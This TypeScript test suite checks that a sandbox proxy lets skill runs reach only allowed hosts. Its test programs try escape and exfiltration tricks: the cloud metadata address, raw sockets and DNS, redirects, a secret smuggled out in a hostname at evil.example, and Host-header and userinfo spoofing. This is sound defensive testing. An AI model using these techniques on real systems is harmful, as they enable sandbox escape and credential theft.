/** The escape suite of runs with hosts: each way out ends at the proxy, and each decision is a record. Counted as skipped without a sandbox. */
import { once } from "node:events";
import { readdirSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { lookForSandbox } from "../../src/workspace/sandbox/sandbox.ts";
import { PETS, petDocument, petStore } from "./openapi/pet-store.ts";
import { errorOf, printed, type SkillPlace, skillPlace } from "./support.ts";

const isHere = "program" in (await lookForSandbox());

/** Long enough for a run to connect. */
const SLOW_RUN_MS = 4_000;

const serving = async (answer: (asked: IncomingMessage, to: ServerResponse) => void) => {
  let asked = 0;
  const server = createServer((request, response) => {
    asked += 1;
    answer(request, response);
  }).listen(0, "0.0.0.0");
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  return { port, asked: () => asked };
};

const connections = async ({ runtime }: SkillPlace) => {
  const found: { host: string; decision: string; rule: string }[] = [];
  for await (const record of runtime.watch(undefined, { from: 0, follow: false }))
    if (record.type === "skill_connection") {
      const { host, decision, rule } = record.payload as { host: string; decision: string; rule: string };
      found.push({ host, decision, rule });
    }
  return found;
};

/** A skill that runs a program of Node in its workspace, and answers with what it printed as its last line. */
const runNode = async (place: SkillPlace, program: string, hosts: readonly string[], timeout_ms?: number) => {
  writeFileSync(join(place.workspace, "try.mjs"), program);
  place.add(
    "try/net",
    `GOT=$("$TRY_NODE" ./try.mjs 2>/tmp/err | tail -1 || cat /tmp/err)\n${printed("try/net", '{"got":"$GOT"}')}`,
    `capabilities: {network: ${JSON.stringify(hosts)}, secrets: [TRY_NODE]}\n`,
  );
  const how = { workspace: place.workspace, secrets: { TRY_NODE: process.execPath }, timeout_ms };
  return (await place.runtime.skills.run("try/net", {}, how)).data.got as string;
};

/** Fetches each URL, and prints the status or `no`. */
const fetching = (urls: readonly string[]) =>
  `const got=[];for(const u of ${JSON.stringify(urls)})got.push(await fetch(u,{redirect:"follow"}).then(r=>r.status,()=>"no"));console.log(got.join(" "))`;

describe.skipIf(!isHere)("a run with hosts", () => {
  it("reaches what its manifest names, by the library of its language, and each decision is a record", async () => {
    const place = await skillPlace();
    const { port, asked } = await serving((_, to) => to.end("hello"));
    const host = `127.0.0.1:${port}`;
    expect(await runNode(place, fetching([`http://${host}/x`]), [host])).toBe("200");
    expect(asked()).toBe(1);
    expect(await connections(place)).toEqual([{ host, decision: "allowed", rule: host }]);
    expect(readdirSync(join(place.stateDir, "skill-proxies"))).toEqual([]);
  });

  it("reaches nothing else: no other host or port, no metadata address, no name that leads there", async () => {
    const place = await skillPlace();
    const { port, asked } = await serving((_, to) => to.end("hello"));
    const other = await serving((_, to) => to.end("other"));
    const urls = [
      `http://127.0.0.1:${other.port}/`,
      `http://127.1:${other.port}/`,
      `http://[::ffff:127.0.0.1]:${port}/`,
      "http://169.254.169.254/latest/meta-data",
      "http://[fd00:ec2::254]/latest/meta-data",
      `https://127.0.0.1:${other.port}/`,
      `http://localhost:${port}/`,
      `http://0.0.0.0:${port}/`,
      "http://example.com/",
    ];
    const got = await runNode(place, fetching(urls), [`127.0.0.1:${port}`]);
    expect(got).not.toContain("200");
    expect([asked(), other.asked()]).toEqual([0, 0]);
    const decided = await connections(place);
    expect(decided).toHaveLength(urls.length);
    expect(decided.every(({ decision, rule }) => decision === "denied" && rule === "network_host")).toBe(
      true,
    );
  });

  it("follows no redirect to a host that is not named", async () => {
    const place = await skillPlace();
    const other = await serving((_, to) => to.end("secret"));
    const { port } = await serving((_, to) =>
      to.writeHead(302, { location: `http://127.0.0.1:${other.port}/` }).end(),
    );
    const got = await runNode(place, fetching([`http://127.0.0.1:${port}/`]), [`127.0.0.1:${port}`]);
    expect(got).not.toBe("200");
    expect(other.asked()).toBe(0);
    expect((await connections(place)).map(({ decision }) => decision)).toEqual(["allowed", "denied"]);
  });

  it("a host that answers a byte at a time holds a run until its time is over, and nothing is left open", async () => {
    const place = await skillPlace();
    let isOpen = false;
    const { port } = await serving((_, to) => {
      isOpen = true;
      const drip = setInterval(() => to.write("x"), 20);
      to.once("close", () => {
        isOpen = false;
        clearInterval(drip);
      });
    });
    const host = `127.0.0.1:${port}`;
    const program = `console.log((await (await fetch("http://${host}/")).text()).length)`;
    const error = await errorOf(runNode(place, program, [host], SLOW_RUN_MS));
    expect(error.code).toBe("TIMEOUT");
    await vi.waitUntil(() => !isOpen);
    expect((await connections(place)).map(({ decision }) => decision)).toEqual(["allowed"]);
  });

  it("has no way beside the proxy: no raw socket, no name service, no other socket, no datagram", async () => {
    const place = await skillPlace();
    const { port, asked } = await serving((_, to) => to.end("hello"));
    const program = `
      import net from "node:net"; import dns from "node:dns/promises"; import dgram from "node:dgram"; import fs from "node:fs";
      const tcp = (host, port) => new Promise((told) => { const s = net.connect({ host, port, family: 4 }); s.on("error", () => told("no")); s.on("connect", () => { s.destroy(); told("open"); }); });
      const udp = () => new Promise((told) => { const s = dgram.createSocket("udp4"); s.on("error", () => told("no")); s.send("x", 53, "8.8.8.8", (e) => told(e ? "no" : "sent")); });
      const got = [await tcp("127.0.0.1", ${port}), await tcp("8.8.8.8", 53), await dns.resolve4("example.com").then(() => "name", () => "no"), await udp(), fs.readdirSync("/run/holdfast").join("+")];
      console.log(got.join(" ")); process.exit(0);`;
    expect(await runNode(place, program, [`127.0.0.1:${port}`])).toBe("no no no no proxy");
    expect(asked()).toBe(0);
  });

  it("leaves no secret in the records of what it asked for", async () => {
    const place = await skillPlace();
    const program = `
      const { request } = await import("node:http"); const secret = process.env.TRY_SECRET; const said = [];
      const ask = (how) => new Promise((told) => request({ socketPath: "/run/holdfast/proxy", ...how }, (a) => { a.resume(); told(a.statusCode); }).on("connect", (a) => told(a.statusCode)).end());
      console.log(await ask({ method: "CONNECT", path: secret + ".evil.example:443" }), await ask({ path: "/x?y=" + secret })); process.exit(0);`;
    const secret = "deadbeefcafe1234567890aa";
    place.add(
      "try/tell",
      `GOT=$("$TRY_NODE" ./try.mjs)\n${printed("try/tell", '{"got":"$GOT"}')}`,
      'capabilities: {network: ["a.example:443"], secrets: [TRY_NODE, TRY_SECRET]}\n',
    );
    writeFileSync(join(place.workspace, "try.mjs"), program);
    const secrets = { TRY_NODE: process.execPath, TRY_SECRET: secret };
    const { data } = await place.runtime.skills.run("try/tell", {}, { workspace: place.workspace, secrets });
    expect(data.got).toBe("403 400");
    const decided = await connections(place);
    expect(decided).toHaveLength(2);
    for (const { host } of decided) expect(host).toContain("***");
    expect(JSON.stringify(decided)).not.toContain(secret);
  });

  it("cannot name hosts to its proxy, and gets no more out of its shapes", async () => {
    const place = await skillPlace();
    const other = await serving((_, to) => to.end("secret"));
    const { port } = await serving((_, to) => to.end("hello"));
    const [host, wanted] = [`127.0.0.1:${port}`, `127.0.0.1:${other.port}`];
    const program = `
      import net from "node:net";
      const say = (text) => new Promise((told) => { let got = ""; const s = net.connect("/run/holdfast/proxy"); s.on("data", (d) => { got += d; }); s.on("close", () => told(got.split(" ")[1] ?? "-")); s.on("error", () => {}); s.end(text); });
      const body = '["${wanted}"]';
      const got = [];
      got.push(await say("PUT /hosts HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: " + body.length + "\\r\\n\\r\\n" + body));
      got.push(await say("CONNECT ${wanted} HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n"));
      got.push(await say("CONNECT 127.0.0.1 HTTP/1.1\\r\\nHost: ${wanted}\\r\\n\\r\\n"));
      got.push(await say("GET http://${host}@${wanted}/ HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n"));
      got.push(await say("GET / HTTP/1.1\\r\\nHost: ${wanted}\\r\\n\\r\\n"));
      got.push(await say("GET http://${host}/ HTTP/1.1\\r\\nHost: x\\r\\nA: " + "x".repeat(20000) + "\\r\\n\\r\\n"));
      console.log(got.join(" "));`;
    expect(await runNode(place, program, [host])).toBe("403 403 400 403 400 -");
    expect(other.asked()).toBe(0);
  });
});

describe.skipIf(!isHere)("http/openapi as a run", () => {
  const scene = async () => {
    const place = await skillPlace();
    const store = await petStore();
    writeFileSync(join(place.workspace, "pets.json"), JSON.stringify(petDocument(`${store.origin}/v1`)));
    const ask = (input: object, secrets: Record<string, string> = {}) =>
      place.runtime.skills.run(
        "http/openapi",
        { document: "pets.json", operation: "listByPage", ...input } as never,
        { workspace: place.workspace, secrets },
      );
    return { place, store, ask };
  };

  it("calls the server that its caller names, follows its pages, and tells no secret", async () => {
    const { place, store, ask } = await scene();
    const base_url = `${store.origin}/v1`;
    const auth = { type: "bearer", secret: "PET_KEY" };
    const pagination = { strategy: "auto" };
    const input = { operation: "GET /by-page", base_url, auth, pagination };
    const { data } = await ask(input, { PET_KEY: "orange-elephant-9" });
    expect(data).toMatchObject({ summary: { status_code: 200, pagination: { has_more: false } } });
    expect(data.body).toEqual(PETS);
    expect(JSON.stringify(data)).not.toContain("orange-elephant");
    const decided = await connections(place);
    expect(decided.length).toBeGreaterThan(0);
    expect(new Set(decided.map(({ decision }) => decision))).toEqual(new Set(["allowed"]));
  });

  it("a document leads to no server of this machine: its caller has to name it", async () => {
    const { place, store, ask } = await scene();
    const error = await errorOf(ask({ operation: "getPet", parameters: { petId: 7 } }));
    expect(error).toMatchObject({
      code: "POLICY_VIOLATION",
      info: { details: { rule: "network_address", skill: "http/openapi" } },
    });
    expect(store.requests).toEqual([]);
    expect((await connections(place)).map(({ rule }) => rule)).toContain("network_address");
  });
});
